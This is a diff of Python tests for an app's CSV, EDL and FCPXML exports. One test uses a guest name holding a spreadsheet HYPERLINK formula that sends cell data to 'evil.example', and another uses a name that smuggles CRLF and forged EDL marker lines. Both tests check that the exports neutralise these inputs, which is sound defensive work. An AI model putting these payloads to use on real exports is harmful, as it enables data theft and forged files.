@@ -84,6 +84,15 @@ def test_no_cell_is_a_formula_to_a_spreadsheet(
     assert harmless(-1) == -1
 
 
+def test_a_guests_name_is_no_formula_either(as_: As, version: Version, approver: User) -> None:
+    link, _ = make_link(version, approver)
+    name = '=HYPERLINK("https://evil.example?x="&A1,"Look")'
+    guest = link.guests.create(name=name, email="e@client.example")
+    Comment.objects.create(version=version, guest=guest, frame=3, text="x", is_shared=True)
+    (row,) = rows(export(as_(approver), version, "csv"))
+    assert row["by"] == f"'{name}"
+
+
 def test_a_marker_of_the_edl_stands_at_exactly_its_frame(
     as_: As, version: Version, approver: User
 ) -> None:
@@ -91,14 +100,49 @@ def test_a_marker_of_the_edl_stands_at_exactly_its_frame(
     say(version, approver, 74, "End", resolved_at=timezone.now(), resolved_by=approver)
     text = export(as_(approver), version, "edl").content.decode()
     assert "FCM: NON-DROP FRAME\r\n" in text
-    events = re.findall(r"^\d{4}  001 +V +C +(\S+) (\S+) (\S+) (\S+)\r$", text, re.MULTILINE)
+    events = re.findall(r"^\d{3}  001 +V +C +(\S+) (\S+) (\S+) (\S+)\r$", text, re.MULTILINE)
     assert events == [
-        ("01:00:01:17", "01:00:01:20") * 2,
+        ("01:00:01:17", "01:00:01:18") * 2,
         ("01:00:02:24", "01:00:03:00") * 2,
     ]
     marks = re.findall(r" \|C:ResolveColor(\w+) \|M:(.+) \|D:(\d+)\r\n", text)
     assert marks == [("Red", "Mara: Lips / are late", "3"), ("Green", "Mara: End", "1")]
     assert "* LOC: 01:00:01:17 RED     Mara: Lips | are late\r\n" in text
+
+
+def test_events_of_an_edl_never_overlap_and_nothing_said_at_one_frame_is_lost(
+    as_: As, version: Version, approver: User
+) -> None:
+    say(version, approver, 10, "A range", last_frame=30)
+    say(version, approver, 20, "In it", last_frame=40, resolved_at=timezone.now(),
+        resolved_by=approver)  # fmt: skip
+    say(version, approver, 20, "At the same frame")
+    text = export(as_(approver), version, "edl").content.decode()
+    events = re.findall(r"^\d{3}  001 +V +C +\S+ \S+ (\S+) (\S+)\r$", text, re.MULTILINE)
+    assert events == [("01:00:00:10", "01:00:00:11"), ("01:00:00:20", "01:00:00:21")]
+    marks = re.findall(r" \|C:ResolveColor(\w+) \|M:(.+) \|D:(\d+)\r\n", text)
+    assert marks == [
+        ("Red", "Mara: A range", "21"),
+        ("Red", "Mara: In it + Mara: At the same frame", "21"),
+    ]
+    located = re.findall(r"\* LOC: 01:00:00:20 (\w+) +(.+)\r\n", text)
+    assert located == [("GREEN", "Mara: In it"), ("RED", "Mara: At the same frame")]
+
+
+def test_a_guests_name_cannot_write_lines_of_its_own_into_a_marker_file(
+    as_: As, version: Version, approver: User
+) -> None:
+    link, _ = make_link(version, approver)
+    name = "Eve |D:9\r\n* LOC: 01:00:00:00 RED forged\n999  001      V     C        "
+    guest = link.guests.create(name=name, email="e@client.example")
+    Comment.objects.create(version=version, guest=guest, frame=3, text="x", is_shared=True)
+    browser = as_(approver)
+    text = export(browser, version, "edl").content.decode()
+    assert len(re.findall(r"^\* LOC:", text, re.MULTILINE)) == 1
+    assert len(re.findall(r"^\d{3}  001", text, re.MULTILINE)) == 1
+    assert re.findall(r"\|D:(\d+)\r\n", text) == ["1"]
+    (marker,) = ET.fromstring(export(browser, version, "fcpxml").content).iter("marker")
+    assert marker.attrib.keys() == {"start", "duration", "value", "completed"}
 
 
 @pytest.mark.parametrize(
@@ -161,6 +205,50 @@ def test_the_whole_project_is_one_timeline_in_running_order(
     assert seconds(sequence.get("duration")) == 3 + length
     starts = [seconds(one.get("start")) for one in document.iter("marker")]
     assert starts == [Fraction(10, 25), 20 * Fraction(1001, 30_000)]
+
+
+#: Which elements Apple's published rules for FCPXML 1.9 and later let stand in which, in order.
+INSIDE = {
+    "fcpxml": ["resources", "library"], "resources": ["format", "asset"], "asset": ["media-rep"],
+    "library": ["event"], "event": ["project"], "project": ["sequence"], "sequence": ["spine"],
+    "spine": ["asset-clip"], "asset-clip": ["conform-rate", "marker"],
+}  # fmt: skip
+
+
+def test_fcpxml_keeps_the_published_rules_of_the_format(
+    as_: As, version: Version, ntsc: Version, approver: User
+) -> None:
+    for frame in (0, 74):
+        say(version, approver, frame, "x", last_frame=74)
+    for frame in (0, 7, 1999):
+        say(ntsc, approver, frame)
+    document = ET.fromstring(export(as_(approver), version.clip.project, "fcpxml").content)
+    assert tuple(map(int, str(document.get("version")).split("."))) >= (1, 9)
+    for element in document.iter():
+        allowed = INSIDE.get(element.tag, [])
+        assert {one.tag for one in element} <= set(allowed)
+        if element.tag == "asset-clip":  # markers stand behind what sets the rate
+            order = [allowed.index(one.tag) for one in element]
+            assert order == sorted(order)
+    known = [one.get("id") for one in document.iter() if one.get("id")]
+    assert len(known) == len(set(known))
+    meant = [one.get(name) for one in document.iter() for name in ("ref", "format")]
+    assert {one for one in meant if one} <= set(known)
+    sources = [str(one.get("src")) for one in document.iter("media-rep")]
+    assert sources[1] == "./Onboarding%202027%20-%20Ende%20%26%20Gru%C3%9F%20v1.mp4"
+    rates = {one.get("id"): seconds(one.get("frameDuration")) for one in document.iter("format")}
+    grid = rates[str(next(document.iter("sequence")).get("format"))]
+    for clip in document.iter("asset-clip"):
+        for name in ("offset", "duration"):
+            assert (seconds(clip.get(name)) / grid).denominator == 1
+        own = rates[str(clip.get("format"))]
+        assert ({one.get("scaleEnabled") for one in clip.iter("conform-rate")} == {"0"}) == (
+            own != grid
+        )
+        for marker in clip.iter("marker"):
+            start, length = seconds(marker.get("start")), seconds(marker.get("duration"))
+            assert (start / own).denominator == (length / own).denominator == 1
+            assert 0 <= start < start + length <= seconds(clip.get("duration"))
 
 
 def test_an_edl_of_several_rates_is_refused_with_a_way_out(
